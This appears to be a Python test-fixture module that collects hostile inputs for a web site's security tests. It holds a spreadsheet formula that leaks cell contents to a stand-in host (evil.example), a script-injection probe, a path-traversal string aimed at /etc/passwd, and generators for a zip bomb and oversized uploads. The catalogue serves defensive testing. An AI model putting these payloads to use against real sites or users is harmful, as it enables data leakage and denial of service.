"""The hostile-input catalogue: values an attacker sends, in one place, for the tests that
drive them through every endpoint, form and import (tests/web/test_security_hostile_catalogue.py)
and for the tests of each defence. Big things are made lazily, once per process."""

from __future__ import annotations

import functools
import io
import json
import struct
import zipfile

NON_TEXT_CHARSETS = ["bz2", "zlib", "rot13", "base64", "hex", "uu", "quopri"]
UNICODE_DIGITS = ["²", "٣", "１", "߁"]
NUMBERS = ["1e308", "-1e308", "NaN", "Infinity", "-Infinity", "9" * 400]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+2",
    "@SUM(A1)",
    "+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+2",
    "＠SUM(A1)",
]
USERNAMES = [
    "ghost@example.org",
    "GHOST@Example.org",
    "ghost+tag@example.org",
    "ann@ıcloud.com",
    "@",
    "a@b@c",
    "ghost@example.org\x00",
]
TEXT = ["", "\x00", "a" * 100_000, "<script>alert(1)</script>", "../../etc/passwd", "%00", "‮evil"]
VALUES = [*UNICODE_DIGITS, *NUMBERS, *FORMULAS, *USERNAMES, *TEXT]
JSON_VALUES = [*VALUES, 1e308, -1e308, 10**400, None, True, [], {}, [[[[]]]]]
MEMBERS = 100_000
BODY_BYTES = 70 * 1024 * 1024


def deep_json(depth: int = 5000) -> str:
    return "[" * depth + "1" + "]" * depth


@functools.cache
def many_member_zip(members: int = MEMBERS) -> bytes:
    """``members`` empty stored files (9 MB for 100,000), written record by record as the
    zip format lays them out (``zipfile`` takes seconds to write as many)."""
    local, central = bytearray(), bytearray()
    for k in range(members):
        name = f"f{k}.txt".encode()
        offset = len(local)
        local += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        central += (
            struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset)
            + name
        )
    zip64 = b""
    if members >= 0xFFFF:  # the count no longer fits the end record: zip64's end record and locator
        at = len(local) + len(central)
        zip64 = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, members, members, len(central), len(local))
        zip64 += struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    count = min(members, 0xFFFF)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    return bytes(local + central + zip64 + end)


@functools.cache
def bomb_zip(megabytes: int = 100) -> bytes:
    """One member of ``megabytes`` MB of zeros, deflated to a few hundred KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("dev.txt", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(block)
    return buffer.getvalue()


@functools.cache
def huge_body() -> bytes:
    """70 MB: past every body limit the site has."""
    return b"x" * BODY_BYTES


@functools.cache
def big_ratings_csv(megabytes: int = 40) -> bytes:
    row = b"annotator-name,12345,team/system-name,fluency,3\n"
    return b"annotator,item,system,scale,value\n" + row * (megabytes * 1024 * 1024 // len(row))


def json_body(value) -> str:
    return json.dumps(value)
